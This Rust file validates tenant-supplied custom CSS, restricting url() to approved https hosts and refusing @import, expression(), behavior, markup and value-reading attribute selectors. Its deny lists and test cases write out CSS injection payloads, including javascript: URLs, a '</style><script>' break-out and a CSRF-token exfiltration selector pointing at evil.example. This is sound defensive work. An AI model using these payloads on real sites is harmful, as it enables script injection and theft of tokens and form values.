//! Checks tenant custom CSS before it is stored and served as its own stylesheet.

use cssparser::{Parser, ParserInput, Token};

/// Largest custom stylesheet accepted.
pub const MAX_CSS_BYTES: usize = 64 * 1024;

const URL_FUNCTIONS: &[&str] = &[
    "url",
    "src",
    "image",
    "image-set",
    "-webkit-image-set",
    "cross-fade",
];
const FORBIDDEN_FUNCTIONS: &[&str] = &["expression", "javascript", "-moz-binding"];
const FORBIDDEN_IDENTS: &[&str] = &[
    "behavior",
    "-moz-binding",
    "behaviour",
    "javascript",
    "vbscript",
];

/// Returns `Err` with a message naming the line when `css` may not be served.
///
/// `url()` must be https and on one of `asset_hosts` (the hosts of the tenant's own branding
/// images): a stylesheet that may fetch from anywhere can report what the page shows.
/// Attribute selectors on `value`, and any attribute selector matching a prefix, suffix or
/// substring (`^=`, `$=`, `*=`), are refused: together with a `url()` per guess they read
/// tokens and form values out of the page one character at a time.
pub fn check(css: &str, asset_hosts: &[String]) -> Result<(), String> {
    if css.len() > MAX_CSS_BYTES {
        return Err(format!(
            "Custom CSS is {} KB; the limit is {} KB.",
            css.len() / 1024,
            MAX_CSS_BYTES / 1024
        ));
    }
    if css.contains('\0') {
        return Err("Custom CSS contains a NUL character.".into());
    }
    let mut input = ParserInput::new(css);
    let mut parser = Parser::new(&mut input);
    walk(&mut parser, None, css, asset_hosts)
}

/// Marks the inside of a `[...]` block for `walk`.
const BRACKETS: &str = "[";

fn line_of(p: &Parser<'_, '_>) -> u32 {
    p.current_source_location().line + 1
}

fn https_only(url: &str, line: u32, asset_hosts: &[String]) -> Result<(), String> {
    let u = url.trim();
    if u.len() >= 8 && u[..8].eq_ignore_ascii_case("https://") {
        let host = url::Url::parse(u)
            .ok()
            .and_then(|p| p.host_str().map(str::to_ascii_lowercase));
        match host {
            Some(h) if asset_hosts.iter().any(|a| a.eq_ignore_ascii_case(&h)) => Ok(()),
            _ => Err(format!(
                "Line {line}: url() may only point at the hosts of your logo, favicon or login background ({}).",
                if asset_hosts.is_empty() {
                    "none set yet".to_string()
                } else {
                    asset_hosts.join(", ")
                }
            )),
        }
    } else {
        Err(format!(
            "Line {line}: only https:// addresses are allowed in url() (found '{}').",
            u.chars().take(60).collect::<String>()
        ))
    }
}

fn walk<'i>(
    p: &mut Parser<'i, '_>,
    function: Option<&str>,
    src: &str,
    hosts: &[String],
) -> Result<(), String> {
    loop {
        let line = line_of(p);
        let token = match p.next_including_whitespace_and_comments() {
            Ok(t) => t.clone(),
            Err(_) => return Ok(()),
        };
        if function == Some(BRACKETS) {
            match &token {
                Token::PrefixMatch | Token::SuffixMatch | Token::SubstringMatch => {
                    return Err(format!(
                        "Line {line}: attribute selectors with ^=, $= or *= are not allowed."
                    ));
                }
                Token::Ident(i) if i.eq_ignore_ascii_case("value") => {
                    return Err(format!(
                        "Line {line}: attribute selectors on 'value' are not allowed."
                    ));
                }
                _ => {}
            }
        }
        match &token {
            Token::AtKeyword(name) if name.eq_ignore_ascii_case("import") => {
                return Err(format!(
                    "Line {line}: @import is not allowed; paste the rules themselves instead."
                ));
            }
            Token::AtKeyword(name)
                if name.eq_ignore_ascii_case("charset")
                    || name.eq_ignore_ascii_case("namespace") =>
            {
                return Err(format!(
                    "Line {line}: @{name} is not allowed in custom CSS."
                ));
            }
            Token::UnquotedUrl(u) => https_only(u, line, hosts)?,
            Token::BadUrl(_) | Token::BadString(_) => {
                return Err(format!(
                    "Line {line}: a url() or string is not closed properly."
                ));
            }
            Token::QuotedString(s) => {
                if function.is_some_and(|f| URL_FUNCTIONS.iter().any(|u| f.eq_ignore_ascii_case(u)))
                {
                    https_only(s, line, hosts)?;
                }
                let lower = s.to_ascii_lowercase();
                if lower.contains("javascript:") || lower.contains("</style") || lower.contains('<')
                {
                    return Err(format!(
                        "Line {line}: this string contains markup or a script address."
                    ));
                }
            }
            Token::Ident(i) if FORBIDDEN_IDENTS.iter().any(|f| i.eq_ignore_ascii_case(f)) => {
                return Err(format!("Line {line}: the '{i}' property is not allowed."));
            }
            Token::Delim('<') | Token::CDO | Token::CDC => {
                return Err(format!(
                    "Line {line}: '<' and HTML comment markers are not allowed in CSS."
                ));
            }
            Token::CloseCurlyBracket | Token::CloseParenthesis | Token::CloseSquareBracket => {
                return Err(format!(
                    "Line {line}: there is a closing bracket without an opening one."
                ));
            }
            _ => {}
        }
        let nested_fn = match &token {
            Token::Function(name) => {
                if FORBIDDEN_FUNCTIONS
                    .iter()
                    .any(|f| name.eq_ignore_ascii_case(f))
                {
                    return Err(format!("Line {line}: {name}() is not allowed."));
                }
                Some(Some(name.to_string()))
            }
            Token::SquareBracketBlock => Some(Some(BRACKETS.to_string())),
            Token::ParenthesisBlock | Token::CurlyBracketBlock => Some(None),
            _ => None,
        };
        if let Some(name) = nested_fn {
            let closer = match &token {
                Token::CurlyBracketBlock => '}',
                Token::SquareBracketBlock => ']',
                _ => ')',
            };
            let inner: Result<(), cssparser::ParseError<'i, String>> = p.parse_nested_block(|np| {
                walk(np, name.as_deref().or(function), src, hosts)
                    .map_err(|m| np.new_custom_error(m))
            });
            if let Err(e) = inner {
                return Err(match e.kind {
                    cssparser::ParseErrorKind::Custom(m) => m,
                    _ => format!("Line {line}: the CSS could not be read."),
                });
            }
            // The parser closes blocks left open at the end; an unclosed block would swallow
            // whatever the page adds after the stylesheet, so it is refused.
            let consumed = &src[..p.position().byte_index()];
            if !consumed.trim_end().ends_with(closer) {
                return Err(format!("Line {line}: a '{{', '(' or '[' is never closed."));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    fn check(css: &str) -> Result<(), String> {
        super::check(
            css,
            &["cdn.example.com".to_string(), "x.example".to_string()],
        )
    }

    #[test]
    fn ordinary_css_passes() {
        assert_eq!(
            check(
                ".btn { border-radius: 0; background: url(https://cdn.example.com/a.png); }\n@media (max-width: 600px) { h1 { font-size: 1rem } }\n.x::after { content: \"hi\" }"
            ),
            Ok(())
        );
        assert_eq!(
            check("h1{background:url(\"https://x.example/a.png\")}"),
            Ok(())
        );
        assert_eq!(
            check("input[type=\"checkbox\"] { margin: 0 }\na[href] { color: red }"),
            Ok(())
        );
        assert_eq!(check(""), Ok(()));
    }

    #[test]
    fn dangerous_css_is_refused_with_a_line() {
        for (css, needle) in [
            ("@import url(https://evil.example/x.css);", "@import"),
            ("a{}\n@IMPORT 'x.css';", "Line 2"),
            (
                "a { background: url(http://evil.example/x.png) }",
                "https://",
            ),
            ("a { background: url('javascript:alert(1)') }", "https://"),
            (
                "a { background: url(data:image/png;base64,AAAA) }",
                "https://",
            ),
            ("a { background: u\\72l(http://x.example) }", "https://"),
            ("a { width: expression(alert(1)) }", "expression"),
            ("a { behavior: url(https://x.example/x.htc) }", "behavior"),
            ("</style><script>alert(1)</script>", "not allowed"),
            ("a { color: red } }", "closing bracket"),
            ("a { color: red ", "never closed"),
            ("a { content: \"</style>\" }", "markup"),
            (
                "a { background: image-set('http://x.example/a.png' 1x) }",
                "https://",
            ),
            (
                "a { background: url(https://evil.example/leak?a) }",
                "hosts of your logo",
            ),
            (
                "input[name=_csrf][value^=\"a\"] { background: url(https://x.example/a) }",
                "'value'",
            ),
            ("input[VALUE=\"x\"] { color: red }", "'value'"),
            ("a[href^=\"https\"] { color: red }", "^="),
            ("a[data-token$=\"z\"] { color: red }", "^="),
            ("a[title*=\"z\"] { color: red }", "^="),
        ] {
            let err = check(css).expect_err(css);
            assert!(err.contains(needle), "{css}: {err}");
        }
    }
}
